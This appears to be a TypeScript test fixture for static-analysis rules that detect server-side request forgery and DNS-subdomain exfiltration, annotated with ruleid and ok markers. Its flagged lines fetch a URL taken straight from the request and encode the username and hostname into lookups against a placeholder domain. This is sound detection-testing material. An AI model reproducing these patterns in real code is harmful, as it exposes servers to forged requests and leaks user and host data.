// TypeScript tests for network.yaml.
import axios from 'axios';
import { lookup } from 'node:dns/promises';
import type { Request, Response } from 'express';
import * as os from 'node:os';

export async function proxy(req: Request, res: Response): Promise<void> {
  // ruleid: js.ssrf.request-url-from-request
  const r = await axios.get(req.query.url as string);
  // todoruleid: js.ssrf.request-url-from-request
  const r2 = await axios.get<string>(req.query.url as string);
  // ok: js.ssrf.request-url-from-request
  const s = await axios.get<string>('https://api.example.com/status');
  // ruleid: js.exfil.dns-subdomain
  await lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.t.example`);
  // ok: js.exfil.dns-subdomain
  await lookup('example.com');
  const label: string = Buffer.from(os.hostname()).toString('base64url');
  const parts: string[] = label.match(/.{1,50}/g) ?? [];
  for (const part of parts) {
    // ruleid: js.exfil.dns-subdomain
    await lookup(`${part}.t.example`);
  }
  const svc: string = (req.query.svc as string) ?? 'api';
  // ok: js.exfil.dns-subdomain
  await lookup(`${svc}.internal.example`);
  res.send([r.data, r2.data, s.data]);
}
